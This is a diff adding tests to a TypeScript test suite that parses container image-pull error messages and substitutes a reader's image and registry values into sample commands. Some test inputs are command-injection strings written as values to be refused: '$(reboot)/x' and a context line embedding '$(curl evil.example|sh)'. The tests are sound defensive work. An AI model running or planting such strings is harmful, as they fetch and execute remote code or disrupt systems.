@@ -100,6 +100,22 @@ describe('values read from a message', () => {
 		).toEqual({});
 	});
 
+	test('a refused image pull gives the image, and its registry when the reference names one', () => {
+		expect(
+			readError(
+				'Failed to pull image "ghcr.io/acme/web:2.3": rpc error: code = Unknown desc = failed to pull and unpack image'
+			).values
+		).toEqual({ image: 'ghcr.io/acme/web:2.3', registry: 'ghcr.io' });
+		expect(
+			readError('Back-off pulling image "localhost:5000/web@sha256:' + 'a'.repeat(64) + '"').values
+		).toEqual({ image: `localhost:5000/web@sha256:${'a'.repeat(64)}`, registry: 'localhost:5000' });
+		// No host: Docker Hub is implied, and there is no registry to fill.
+		expect(readError('Failed to pull image "acme/web:2.3": not found').values).toEqual({
+			image: 'acme/web:2.3',
+		});
+		expect(readError('Failed to pull image "$(reboot)/x"').values).toEqual({});
+	});
+
 	test('values that would need quoting in a command or a JSON string are refused', () => {
 		for (const value of [
 			'arn:aws:iam::123456789012:user/$(curl evil.example|sh)',
@@ -182,6 +198,19 @@ describe('slots in a sample', () => {
 		);
 	});
 
+	test('between messages no service tells apart, the one whose examples the reader can fill', () => {
+		const plan = fillPlan([
+			'NAME   READY   STATUS             RESTARTS   AGE\napp    0/1     ImagePullBackOff   0          3m',
+			'Failed to pull image "registry.example.com/example/app:1.0": 401 Unauthorized',
+		]);
+		const reader = readError('Failed to pull image "ghcr.io/acme/web:2.3": 401 Unauthorized');
+		expect(closestMessage(plan, reader.services, ['image', 'registry'])).toBe(1);
+		expect([...replacements(plan, reader).values()].sort()).toEqual([
+			'ghcr.io',
+			'ghcr.io/acme/web:2.3',
+		]);
+	});
+
 	test("the reader's values replace the examples of the message most like theirs", () => {
 		const two = fillPlan([
 			SEED,
@@ -231,6 +260,8 @@ function otherValue(name: SlotName, example: string): string {
 		objectId: '66666666-7777-8888-9999-000000000000',
 		namespace: 'reader-ns',
 		repository: 'reader-org/reader-repo',
+		image: 'ghcr.io/reader-org/reader-app:2.0',
+		registry: 'ghcr.io',
 	};
 	return values[name];
 }
